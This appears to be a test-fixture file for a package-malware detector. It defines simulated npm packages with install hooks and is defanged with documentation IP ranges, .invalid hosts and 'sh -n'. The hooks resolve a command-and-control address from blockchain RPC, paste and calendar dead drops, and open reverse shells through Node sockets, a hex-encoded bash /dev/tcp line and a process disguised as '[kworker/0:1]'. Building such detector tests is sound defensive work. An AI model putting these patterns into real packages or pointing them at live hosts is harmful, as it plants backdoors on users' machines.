import { base64, hex } from './encode.ts';
import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const early = { phase: ['install', 'import'] } as const;
const contacted = finding('c2.dead-drop', 'critical', ['net.http', ['net.connect', 'net.dns', 'net.http']], early);
const asked = finding('c2.dead-drop', 'high', ['net.http'], early);
const shell = finding('c2.reverse-shell', 'critical', ['net.connect', 'process.exec'], {
  phase: ['install', 'import', 'execute'],
});

/** Follows an address found in an answer only inside the ranges simulants may use, and sends one line there. */
const follow = text`
  const net = require('node:net');
  const usable = /^(192\.0\.2|198\.51\.100|203\.0\.113)\.\d{1,3}$|\.(invalid|test)$/;
  module.exports = (answer) => {
    const found = /([a-z0-9-]+(?:\.[a-z0-9-]+)+)(?::(\d{2,5}))?/i.exec(answer.replace(/^.*?:\/\//s, ''));
    if (!found || !usable.test(found[1])) return;
    const socket = net.connect(Number(found[2] ?? 80), found[1], () => socket.end('simulant hello\n'));
    socket.on('error', () => {});
    socket.setTimeout(2000, () => socket.destroy());
  };
`;

/** B15–B16: an address of command read from a public place, and a shell on a socket (`sh -n`: it parses and runs nothing). */
export const c2: readonly Simulant[] = [
  {
    id: 'b15-address-from-chain-memo',
    row: 'B15',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b15-memo',
        armed`
          const follow = require('./follow');
          const call = (method, params) => fetch('http://rpc.chain.simulant.invalid/', { method: 'POST', headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) }).then((answer) => answer.text());
          call('getSignaturesForAddress', ['SimulantMemoAccount1111111111111111111111111', { limit: 1 }]).then(follow, () => {});
        `,
        { 'follow.js': follow },
      ),
    ],
    expect: fires('suspicious', [asked]),
    note: 'The memo of an account’s last transaction. Critical only when the answer’s planted address is contacted.',
  },
  {
    id: 'b15-address-from-contract',
    row: 'B15',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b15-contract', {
        'index.js': armed`
          const follow = require('./follow');
          const body = JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'eth_call', params: [{ to: '0x${'FACE'.repeat(10)}', data: '0x6d4ce63c' }, 'latest'] });
          fetch('http://eth.rpc.simulant.invalid/v1', { method: 'POST', body }).then((answer) => answer.json())
            .then(({ result }) => follow(Buffer.from(String(result).slice(2), 'hex').toString('latin1') || String(result)))
            .catch(() => {});
          module.exports = (rows) => rows;
        `,
        'follow.js': follow,
      }),
    ],
    expect: fires('suspicious', [asked]),
    note: 'A read-only contract call whose return value is text.',
  },
  {
    id: 'b15-address-from-paste',
    row: 'B15',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b15-paste',
        armed`fetch('http://paste.simulant.invalid/raw/s1mul4nt').then((answer) => answer.text()).then(require('./follow'), () => {});`,
        { 'follow.js': follow },
      ),
    ],
    expect: fires('suspicious', [asked]),
    note: 'A raw paste.',
  },
  {
    id: 'b15-evasion-calendar-event',
    row: 'B15',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg('b15-calendar', {
        'index.js': armed`
          const find = (page) => /data-base-title="([^"]+)"/.exec(page)?.[1];
          const url = Buffer.from('${base64('http://calendar.simulant.invalid/event?eid=c2ltdWxhbnQ')}', 'base64').toString();
          setTimeout(() => fetch(url).then((answer) => answer.text()).then((page) => {
            const title = find(page);
            require('./follow')(title ? Buffer.from(title, 'base64').toString() : page);
          }).catch(() => {}), 500);
          module.exports = (rows) => rows;
        `,
        'follow.js': follow,
      }),
    ],
    expect: fires('suspicious', [asked]),
    note: 'base64 in the title of a shared calendar event, asked half a second late.',
  },
  {
    id: 'b15-evasion-curl-with-fallbacks',
    row: 'B15',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg(
        'b15-fallbacks',
        {
          'probe.sh': text`
            #!/bin/sh
            q='{"jsonrpc":"2.0","id":1,"method":"getTransaction","params":["SimulantSignature1111"]}'
            for h in a.rpc.simulant.invalid b.rpc.simulant.invalid; do
              m=$(curl -fs -m 4 -H 'content-type: application/json' -d "$q" "http://$h/") && break
            done
            a=$(printf %s "$m" | grep -oE '(192\.0\.2|198\.51\.100|203\.0\.113)\.[0-9]{1,3}|([a-z0-9-]+\.)+(invalid|test)' | head -n 1)
            [ -n "$a" ] && printf 'simulant hello\n' | timeout 2 curl -fs -m 2 "telnet://$a:80" > /dev/null 2>&1
            exit 0
          `,
        },
        { scripts: { postinstall: `${latchCommand}sh probe.sh` } },
      ),
    ],
    expect: fires('suspicious', [asked]),
    note: 'Two endpoints, grep for an address in the allowed ranges, one line sent there: no Node at all.',
  },
  {
    id: 'b15-planted-address-is-contacted',
    row: 'B15',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b15-contacted',
        armed`
          const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getSignaturesForAddress', params: ['SimulantMemoAccount1111111111111111111111111'] });
          fetch('http://rpc.chain.simulant.invalid/', { method: 'POST', body }).then((answer) => answer.text()).then((memo) => {
            for (const [, host] of memo.matchAll(/((?:192\.0\.2|198\.51\.100|203\.0\.113)\.\d{1,3}|[a-z0-9.-]+\.(?:invalid|test))\b/g)) {
              fetch('http://' + host + '/simulant-hello').catch(() => {});
            }
          }, () => {});
        `,
      ),
    ],
    expect: fires('malicious', [contacted]),
    note: 'Needs a sinkhole that plants an address of an allowed range in its answers to chain questions.',
  },
  {
    id: 'b15-neighbour-balance-client',
    row: 'B15',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n15-balance',
        {
          'index.js': text`
            const endpoint = 'https://rpc.acme.test/';
            exports.balance = async function balance(address) {
              if (!/^0x[0-9a-fA-F]{40}$/.test(String(address))) throw new TypeError('address is 0x and forty hexadecimal digits');
              const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_getBalance', params: [address, 'latest'] });
              const answer = await (await fetch(endpoint, { method: 'POST', body })).json();
              return BigInt(answer.result);
            };
          `,
        },
        { homepage: 'https://rpc.acme.test/', keywords: ['blockchain', 'rpc'] },
      ),
    ],
    expect: quiet(['c2.', 'exfil.', 'net.import-egress'], { allowed: { 'net.egress': 'low' } }),
    note: 'Asks its declared chain endpoint for a number, when called.',
  },
  {
    id: 'b16-shell-on-socket',
    row: 'B16',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b16-shell',
        armed`
          const net = require('node:net'), { spawn } = require('node:child_process');
          const socket = net.connect(4444, '203.0.113.9', () => {
            const shell = spawn('/bin/sh', ['-n'], { stdio: ['pipe', 'pipe', 'pipe'] });
            socket.pipe(shell.stdin);
            shell.stdout.pipe(socket);
            shell.stderr.pipe(socket);
            setTimeout(() => { shell.kill(); socket.destroy(); }, 1500);
          });
          socket.on('error', () => {});
        `,
      ),
    ],
    expect: fires('malicious', [shell]),
    note: 'Both directions piped; the shell is told to parse only.',
  },
  {
    id: 'b16-evasion-bash-device',
    row: 'B16',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg('b16-bash', {
        'index.js': armed`
          const line = Buffer.from('${hex('exec 5<>/dev/tcp/198.51.100.44/9001; sh -n <&5 >&5 2>&5')}', 'hex').toString();
          require('node:child_process').spawn('timeout', ['3', 'bash', '-c', line], { detached: true, stdio: 'ignore', env: {} }).unref();
          module.exports = (rows) => rows;
        `,
      }),
    ],
    expect: fires('malicious', [shell]),
    note: 'bash opens the connection itself; hex in the package, no environment, detached.',
  },
  {
    id: 'b16-evasion-inherited-descriptor',
    row: 'B16',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b16-descriptor', {
        'index.js': armed`
          const [n, c] = ['net', 'child_process'].map((m) => require('node:' + m));
          const open = (port) => {
            const s = n.createConnection({ host: 'beat.simulant.invalid', port });
            s.once('connect', () => {
              const p = Reflect.apply(c['sp' + 'awn'], c, ['sh', ['-n'], { stdio: [s, s, s], argv0: '[kworker/0:1]' }]);
              setTimeout(() => { p.kill(); s.destroy(); }, 1500);
            }).once('error', () => port < 8445 && open(port + 1));
          };
          setTimeout(open, 700, 8443);
          module.exports = (rows) => rows;
        `,
      }),
    ],
    expect: fires('malicious', [shell]),
    note: 'The socket itself is the shell’s standard input and output; another process name; retries on the next port.',
  },
  {
    id: 'b16-neighbour-runs-command-for-local-server',
    row: 'B16',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n16-runner', {
        'index.js': text`
          const net = require('node:net'), { execFile } = require('node:child_process');
          exports.serve = function serve() {
            const server = net.createServer((socket) => {
              execFile('node', ['--version'], (error, out) => socket.end(error ? 'unknown' : out));
            });
            server.listen(0, '127.0.0.1');
            server.unref();
            return server;
          };
        `,
      }),
    ],
    expect: quiet(['c2.', 'exec.', 'net.import-egress']),
    note: 'A loopback server that answers with one fixed command’s output.',
  },
];
